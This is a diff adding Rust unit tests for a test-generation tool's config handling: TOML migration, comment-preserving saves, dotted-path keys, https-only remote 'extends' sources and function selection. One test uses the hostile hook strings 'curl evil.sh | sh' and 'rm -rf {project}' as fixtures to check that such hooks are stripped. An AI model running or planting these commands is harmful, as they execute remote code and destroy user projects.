+            r#"extends = "../base.toml"
+
+[performance]
+parallel_chunk_size = 10
+parallel = false
+
+[generation]
+
+# Where tests go
+output_dir = "custom_tests" # relative to the project root
+skip_functions = ["internal_"]
+
+[types.mappings]
+Id = "Id::new(1)"
+"#
+        );
+
+        let config: Config = toml::from_str(&migrated).unwrap();
+        assert_eq!(config.generation.output_dir, "custom_tests");
+        assert_eq!(config.performance.parallel_chunk_size, 10);
+        assert!(Config::migrate_legacy_toml(&migrated).unwrap().is_none());
+    }
+
+    #[test]
+    fn test_save_keeps_comments_and_order() {
+        let dir = tempdir().unwrap();
+        let path = dir.path().join("auto_test.toml");
+        fs::write(
+            &path,
+            r#"extends = "../base.toml"
+
+# Tests live next to the crate
+[generation]
+output_dir = "tests" # relative to the project root
+skip_functions = ["internal_"]
+test_timeout_secs = 5
+
+[types.mappings]
+Id = "Id::new(1)" # the smallest valid id
+
+[profile.ci.performance]
+parallel = false
+"#,
+        )
+        .unwrap();
+
+        let mut config: Config = toml::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+        config.generation.output_dir = "tests2".to_string();
+        config.generation.test_timeout_secs = None;
+        config.types.mappings.insert("Name".to_string(), "Name::default()".to_string());
+        config.performance.parallel_chunk_size = 8;
+        config.save_to_file(&path).unwrap();
+
+        assert_eq!(
+            fs::read_to_string(&path).unwrap(),
+            r#"extends = "../base.toml"
+
+# Tests live next to the crate
+[generation]
+output_dir = "tests2" # relative to the project root
+skip_functions = ["internal_"]
+
+[types.mappings]
+Id = "Id::new(1)" # the smallest valid id
+Name = "Name::default()"
+
+[profile.ci.performance]
+parallel = false
+
+[performance]
+parallel_chunk_size = 8
+"#
+        );
+
+        let fresh = dir.path().join("fresh.toml");
+        config.save_to_file(&fresh).unwrap();
+        let saved: Config = toml::from_str(&fs::read_to_string(&fresh).unwrap()).unwrap();
+        assert_eq!(saved.generation.output_dir, "tests2");
+        assert_eq!(saved.performance.parallel_chunk_size, 8);
+        assert!(!fs::read_to_string(&fresh).unwrap().contains("case_style"));
+    }
+
+    #[test]
+    fn test_keys_are_read_and_set_by_dotted_path() {
+        let mut config = Config::default();
+        config.set_key("generation.output_dir", "tests2").unwrap();
+        config.set_key("performance.parallel", "false").unwrap();
+        config.set_key("generation.skip_functions", r#"["a_", "b_"]"#).unwrap();
+        config.set_key("generation.crate_name", "42").unwrap();
+        config.set_key("types.mappings.Id", "Id::new(1)").unwrap();
+
+        assert_eq!(config.output_dir, "tests2");
+        assert!(!config.parallel);
+        assert_eq!(config.get_key("generation.skip_functions"), Some(serde_json::json!(["a_", "b_"])));
+        assert_eq!(config.get_key("generation.crate_name"), Some(serde_json::json!("42")));
+        assert_eq!(config.get_key("types.mappings.Id"), Some(serde_json::json!("Id::new(1)")));
+        assert_eq!(config.get_key("generation.coverage_report"), Some(serde_json::Value::Null));
+        assert_eq!(config.get_key("generation.nope"), None);
+
+        let error = config.set_key("generation.outptu_dir", "x").unwrap_err().to_string();
+        assert!(error.contains("generation.outptu_dir: unknown key (did you mean `output_dir`?)"), "{}", error);
+        let error = config.set_key("performance.parallel_chunk_size", "many").unwrap_err().to_string();
+        assert!(error.contains("expected integer, found string"), "{}", error);
+        assert!(config.set_key("generation..output_dir", "x").is_err());
+        assert_eq!(config.performance.parallel_chunk_size, 0);
+    }
+
+    #[test]
+    fn test_github_extends_maps_to_raw_url() {
+        assert_eq!(
+            ExtendsSource::parse("github:acme/configs/rust/auto_test.toml@v2", None).unwrap(),
+            ExtendsSource::Remote(
+                "https://raw.githubusercontent.com/acme/configs/v2/rust/auto_test.toml".to_string()
+            )
+        );
+        assert!(ExtendsSource::parse("shared.toml", None).is_err());
+        let err = ExtendsSource::parse("http://example.com/auto_test.toml", Some(Path::new("."))).unwrap_err();
+        assert!(err.to_string().contains("must use https://"), "{}", err);
+    }
+
+    #[test]
+    fn test_strip_hooks_from_base_and_profiles() {
+        let mut value = serde_json::json!({
+            "output_dir": "tests",
+            "generation": { "post_hooks": ["curl evil.sh | sh"], "strict": true },
+            "profile": { "ci": { "generation": { "post_run_hooks": ["rm -rf {project}"] } } }
+        });
+
+        assert_eq!(
+            Config::strip_hooks(&mut value),
+            vec!["generation.post_hooks", "profile.ci.generation.post_run_hooks"]
+        );
+        assert_eq!(
+            value,
+            serde_json::json!({
+                "output_dir": "tests",
+                "generation": { "strict": true },
+                "profile": { "ci": { "generation": {} } }
+            })
+        );
+        assert!(Config::validate_value(&serde_json::json!({ "allow_remote_hooks": true })).is_empty());
+        assert!(!Config::validate_value(&serde_json::json!({ "allow_remote_hooks": "yes" })).is_empty());
+    }
+
+    #[test]
+    fn test_is_selected_matches_file_and_name() {
+        let dir = tempdir().unwrap();
+        let file = dir.path().join("lib.rs");
+        fs::write(&file, "").unwrap();
+
+        let mut config = Config::default();
+        assert!(config.is_selected("src/anything.rs", "anything"));
+
+        config.selected_functions = Some(BTreeSet::from([(file.canonicalize().unwrap(), "add".to_string())]));
+        let file = file.to_string_lossy();
+        assert!(config.is_selected(&file, "add"));
+        assert!(!config.is_selected(&file, "sub"));
+        assert!(!config.is_selected("other.rs", "add"));
+    }
 }